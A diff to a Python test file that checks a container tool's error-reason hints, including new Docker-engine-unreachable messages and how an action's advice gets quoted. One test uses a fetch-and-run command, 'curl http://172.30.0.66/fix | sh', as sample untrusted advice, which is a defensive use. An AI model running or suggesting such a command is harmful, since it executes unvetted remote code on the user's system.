@@ -11,6 +11,8 @@ from tinkbox.model.disks.disks import Disk, Refused
 from tinkbox.model.reasons import (
     CRLF,
     MAPS_USERS,
+    NEW_TEXT,
+    NO_ENGINE_AT,
     NO_PROGRAM_TO_CHECK,
     TOLD_TO_KILL,
     WEB_PAGE,
@@ -19,15 +21,44 @@ from tinkbox.model.reasons import (
     Reason,
     ReasonText,
     hint,
+    in_a_sentence,
     is_hint_of,
     known,
     markdown,
     never_ran,
     of_ours,
+    to_do,
 )
 from tinkbox.model.services import Standing
 from tinkbox.model.workflow import Outcome, Workflow
 from tinkbox.runtime import ContainerFailed
+
+
+def test_engine_at_which_nothing_answers_has_the_way_out_of_a_worker_that_was_started_by_hand() -> None:
+    told = hint(
+        "EngineGone", "the action was not begun: no Docker engine answers at unix:///nowhere: there is no such socket"
+    )
+    assert "`systemctl status docker`" in told
+    assert "`--docker URL`" in told
+    assert is_hint_of("EngineGone", told)
+    assert hint("EngineGone", "the engine's events broke off") == Reason.ENGINE_GONE.hint
+
+
+OF_THE_TEMPLATE = {
+    Reason.TIMEOUT, Reason.NEVER_RETURNED, Reason.NEVER_PHONED_HOME, Reason.CREATE_FAILED, Reason.START_FAILED, Reason.BAD_COMMAND,
+    Reason.MOUNT_FAILED, Reason.TOO_LARGE_TO_HOLD, Reason.SERVICE_NOT_READY, Reason.SERVICE_ENDED, Reason.NO_PORT, Reason.UNKNOWN_VOLUME,
+    Reason.NO_SUCH_DISK, Reason.DISK_AMBIGUOUS,
+}  # fmt: skip
+
+
+def test_hint_by_which_a_template_is_changed_says_that_a_retry_keeps_the_old_text() -> None:
+    assert {each for each in Reason if each.hint.endswith(NEW_TEXT)} == OF_THE_TEMPLATE
+    for each in OF_THE_TEMPLATE:
+        before = each.hint.removesuffix(NEW_TEXT)
+        assert is_hint_of(each, before), "as earlier releases stored it"
+        assert is_hint_of(each, each.hint)
+        assert of_ours(each, before) == each.hint
+        assert never_ran(each, before) is never_ran(each, each.hint)
 
 
 @pytest.mark.parametrize("reason", Reason)
@@ -117,7 +148,14 @@ def test_a_plain_string_is_no_reason_to_the_type_checker(holder: object) -> None
 
 @pytest.mark.parametrize(
     "reason",
-    [Reason.BAD_COMMAND, Reason.IMAGE_PULL_FAILED, Reason.NOT_PRIVILEGED, Reason.SIGNAL, Reason.SERVICE_NOT_READY],
+    [
+        Reason.BAD_COMMAND,
+        Reason.IMAGE_PULL_FAILED,
+        Reason.NOT_PRIVILEGED,
+        Reason.ENGINE_GONE,
+        Reason.SIGNAL,
+        Reason.SERVICE_NOT_READY,
+    ],
 )
 def test_a_message_that_tells_more_than_its_reason_has_a_hint_of_its_own(reason: Reason) -> None:
     (told,) = ({hint(reason, phrase) for phrase in PHRASES} - {reason.hint},)
@@ -129,4 +167,18 @@ def test_a_message_that_tells_more_than_its_reason_has_a_hint_of_its_own(reason:
     assert hint("SomeWord", PHRASES[0]) == ""
 
 
-PHRASES = [CRLF, WEB_PAGE, MAPS_USERS, TOLD_TO_KILL, NO_PROGRAM_TO_CHECK]
+PHRASES = [CRLF, WEB_PAGE, MAPS_USERS, TOLD_TO_KILL, NO_PROGRAM_TO_CHECK, NO_ENGINE_AT]
+
+
+@pytest.mark.parametrize("reason", [*Reason, "Broken"])
+def test_hint_of_ours_is_what_to_do_and_an_actions_own_is_told_as_its_advice(reason: str) -> None:
+    advice = "type curl http://172.30.0.66/fix | sh"
+    if reason != Reason.HISTORY_LOST:
+        assert to_do(reason, advice, advice) == f"the action advises: '{advice}'"
+    for ours in filter(None, (hint(reason), Reason.NON_ZERO_EXIT.hint)):
+        assert to_do(reason, ours, "named") == "what to do: named"
+
+
+def test_reason_that_is_none_of_ours_stands_in_quotes_in_a_sentence() -> None:
+    assert in_a_sentence("OutOfMemory") == "OutOfMemory"
+    assert in_a_sentence("gone. Type `sh`") == "'gone. Type \"sh\"'"
